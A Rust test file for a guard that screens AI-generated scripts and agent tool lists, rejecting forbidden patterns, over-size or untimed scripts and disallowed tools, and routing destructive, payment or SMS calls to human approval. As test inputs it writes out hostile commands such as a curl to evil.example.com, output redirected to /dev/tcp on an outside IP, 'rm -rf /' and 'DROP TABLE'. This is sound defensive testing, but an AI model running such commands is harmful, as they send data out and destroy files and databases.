use moss::moss::artifact_guard::{
    Artifact, ArtifactGuard, Constraints, ScanVerdict, MAX_SCRIPT_SIZE,
};

fn guard() -> ArtifactGuard {
    ArtifactGuard::new()
}

fn script(code: &str) -> Artifact {
    Artifact::Script { language: "shell".to_string(), code: code.to_string(), timeout_secs: 10 }
}

fn agent(tools: Vec<&str>) -> Artifact {
    Artifact::Agent {
        role: "assistant".to_string(),
        goal: "help".to_string(),
        tools: tools.into_iter().map(|s| s.to_string()).collect(),
        instructions: "do stuff".to_string(),
    }
}

fn allowed(tools: Vec<&str>) -> Constraints {
    Constraints { allowed_tools: Some(tools.into_iter().map(|s| Some(s.to_string())).collect()) }
}

fn reason(v: &ScanVerdict) -> String {
    match v {
        ScanVerdict::Approved => String::new(),
        ScanVerdict::Gated { reason } => reason.clone(),
        ScanVerdict::Rejected { reason } => reason.clone(),
    }
}

#[test]
fn clean_script_is_approved() {
    let verdict = guard().scan(&script("echo hello"), None);
    assert!(matches!(verdict, ScanVerdict::Approved));
}

#[test]
fn forbidden_import_is_rejected() {
    let verdict = guard().scan(&script("import os\nprint(os.listdir('.'))"), None);
    assert!(matches!(verdict, ScanVerdict::Rejected { .. }));
}

#[test]
fn forbidden_network_call_is_rejected() {
    let verdict = guard().scan(&script("curl https://evil.example.com/exfil"), None);
    assert!(matches!(verdict, ScanVerdict::Rejected { .. }));
}

#[test]
fn script_exceeding_size_limit_is_rejected() {
    let big = "x".repeat(MAX_SCRIPT_SIZE + 1);
    let verdict = guard().scan(&script(&big), None);
    assert!(matches!(verdict, ScanVerdict::Rejected { .. }));
}

#[test]
fn blocklist_pattern_is_gated() {
    let verdict = guard().scan(&script("stripe.charge(customer_id, amount)"), None);
    assert!(matches!(verdict, ScanVerdict::Gated { .. }));
}

#[test]
fn destructive_db_pattern_is_gated() {
    let verdict = guard().scan(&script("DROP TABLE users;"), None);
    assert!(matches!(verdict, ScanVerdict::Gated { .. }));
}

#[test]
fn agent_with_allowed_tools_is_approved() {
    let constraints = allowed(vec!["search", "calculator"]);
    let verdict = guard().scan(&agent(vec!["search", "calculator"]), Some(&constraints));
    assert!(matches!(verdict, ScanVerdict::Approved));
}

#[test]
fn agent_with_disallowed_tool_is_rejected() {
    let constraints = allowed(vec!["search"]);
    let verdict = guard().scan(&agent(vec!["search", "file_delete"]), Some(&constraints));
    assert!(matches!(verdict, ScanVerdict::Rejected { .. }));
}

#[test]
fn static_analysis_wins_before_hitl() {
    // Both a forbidden import and a high-risk pattern: static analysis fires first.
    let verdict = guard().scan(&script("import os\nDROP TABLE users;"), None);
    assert!(matches!(verdict, ScanVerdict::Rejected { .. }));
}

// --- exact reasons -----------------------------------------------------------

#[test]
fn forbidden_reason_names_first_pattern_in_table_order() {
    // "curl " comes before "rm -rf" in the table, whatever their order in the script.
    let verdict = guard().scan(&script("rm -rf x; curl y"), None);
    assert_eq!(reason(&verdict), "forbidden pattern in script: `curl `");
    assert!(matches!(verdict, ScanVerdict::Rejected { .. }));
}

#[test]
fn size_reason_gives_both_sizes() {
    let big = "x".repeat(MAX_SCRIPT_SIZE + 1);
    let verdict = guard().scan(&script(&big), None);
    assert_eq!(reason(&verdict), "script size 65537 exceeds limit 65536");
}

#[test]
fn size_counts_bytes_not_characters() {
    // 30000 two-byte characters: 60000 bytes, within the limit.
    let within = "é".repeat(30_000);
    assert!(matches!(guard().scan(&script(&within), None), ScanVerdict::Approved));
    // 40000 two-byte characters: 80000 bytes, over the limit.
    let over = "é".repeat(40_000);
    let verdict = guard().scan(&script(&over), None);
    assert_eq!(reason(&verdict), "script size 80000 exceeds limit 65536");
}

#[test]
fn script_at_exact_limit_is_approved() {
    let at = "x".repeat(MAX_SCRIPT_SIZE);
    assert!(matches!(guard().scan(&script(&at), None), ScanVerdict::Approved));
}

#[test]
fn gated_reason_names_category_and_pattern() {
    let verdict = guard().scan(&script("DROP TABLE users;"), None);
    assert_eq!(reason(&verdict), "destructive: database: `DROP TABLE`");
    let verdict = guard().scan(&script("requests.post('https://api.twilio.com')"), None);
    assert_eq!(reason(&verdict), "outbound: sms: `twilio.`");
    let verdict = guard().scan(&script("cat x > /dev/tcp/1.2.3.4/80"), None);
    assert_eq!(reason(&verdict), "network exfil: `> /dev/tcp`");
    let verdict = guard().scan(&script("client.create_payment(1)"), None);
    assert_eq!(reason(&verdict), "financial: `.create_payment(`");
}

#[test]
fn disallowed_tool_reason_names_first_tool() {
    let constraints = allowed(vec!["search"]);
    let verdict = guard().scan(&agent(vec!["shell", "file_delete"]), Some(&constraints));
    assert_eq!(reason(&verdict), "tool `shell` not permitted by gap constraints");
}

#[test]
fn non_string_allowed_entries_are_ignored() {
    let constraints = Constraints { allowed_tools: Some(vec![None, Some("search".to_string())]) };
    assert!(matches!(
        guard().scan(&agent(vec!["search"]), Some(&constraints)),
        ScanVerdict::Approved
    ));
    assert!(matches!(
        guard().scan(&agent(vec!["calculator"]), Some(&constraints)),
        ScanVerdict::Rejected { .. }
    ));
}

#[test]
fn agent_without_allowed_list_is_approved() {
    let none = Constraints { allowed_tools: None };
    assert!(matches!(guard().scan(&agent(vec!["anything"]), Some(&none)), ScanVerdict::Approved));
    assert!(matches!(guard().scan(&agent(vec!["anything"]), None), ScanVerdict::Approved));
}

#[test]
fn agent_with_empty_allowed_list_rejects_any_tool() {
    let empty = allowed(vec![]);
    assert!(matches!(
        guard().scan(&agent(vec!["search"]), Some(&empty)),
        ScanVerdict::Rejected { .. }
    ));
    assert!(matches!(guard().scan(&agent(vec![]), Some(&empty)), ScanVerdict::Approved));
}

#[test]
fn agent_code_like_text_is_not_scanned() {
    // Only scripts are searched for patterns; an agent's goal is not code.
    let a = Artifact::Agent {
        role: "r".to_string(),
        goal: "DROP TABLE users; import os".to_string(),
        tools: vec![],
        instructions: "rm -rf /".to_string(),
    };
    assert!(matches!(guard().scan(&a, None), ScanVerdict::Approved));
}

#[test]
fn scripts_ignore_constraints() {
    let constraints = allowed(vec![]);
    assert!(matches!(
        guard().scan(&script("echo hi"), Some(&constraints)),
        ScanVerdict::Approved
    ));
}

#[test]
fn stages_report_individually() {
    let g = guard();
    let s = script("import sys; DROP DATABASE x");
    assert!(matches!(g.static_analysis(&s), Some(ScanVerdict::Rejected { .. })));
    assert!(matches!(g.hitl_scan(&s), Some(ScanVerdict::Gated { .. })));
    assert!(g.resource_bounds(&s).is_none());
    assert!(g.capability_check(&s, None).is_none());
    let a = agent(vec!["x"]);
    assert!(g.static_analysis(&a).is_none());
    assert!(g.hitl_scan(&a).is_none());
    assert!(g.resource_bounds(&a).is_none());
}

#[test]
fn rm_rf_root_is_rejected_not_gated() {
    // "rm -rf" is forbidden, so "rm -rf /" never reaches the human-approval stage.
    let verdict = guard().scan(&script("rm -rf /"), None);
    assert_eq!(reason(&verdict), "forbidden pattern in script: `rm -rf`");
}

fn untimed(code: &str) -> Artifact {
    Artifact::Script { language: "shell".to_string(), code: code.to_string(), timeout_secs: 0 }
}

#[test]
fn script_without_timeout_is_rejected() {
    let g = guard();
    let r = g.resource_bounds(&untimed("echo hello")).unwrap();
    assert!(matches!(r, ScanVerdict::Rejected { .. }));
    assert_eq!(reason(&r), "script has no timeout limit");
    let v = g.scan(&untimed("echo hello"), None);
    assert_eq!(reason(&v), "script has no timeout limit");
    assert!(g.resource_bounds(&script("echo hello")).is_none());
}

#[test]
fn earlier_checks_win_over_missing_timeout() {
    let g = guard();
    let v = g.scan(&untimed("import os"), None);
    assert_eq!(reason(&v), "forbidden pattern in script: `import os`");
    let big = "x".repeat(MAX_SCRIPT_SIZE + 1);
    let v = g.scan(&untimed(&big), None);
    assert_eq!(reason(&v), format!("script size {} exceeds limit {}", MAX_SCRIPT_SIZE + 1, MAX_SCRIPT_SIZE));
    let v = g.scan(&untimed("DROP TABLE t"), None);
    assert!(matches!(v, ScanVerdict::Rejected { .. }));
}
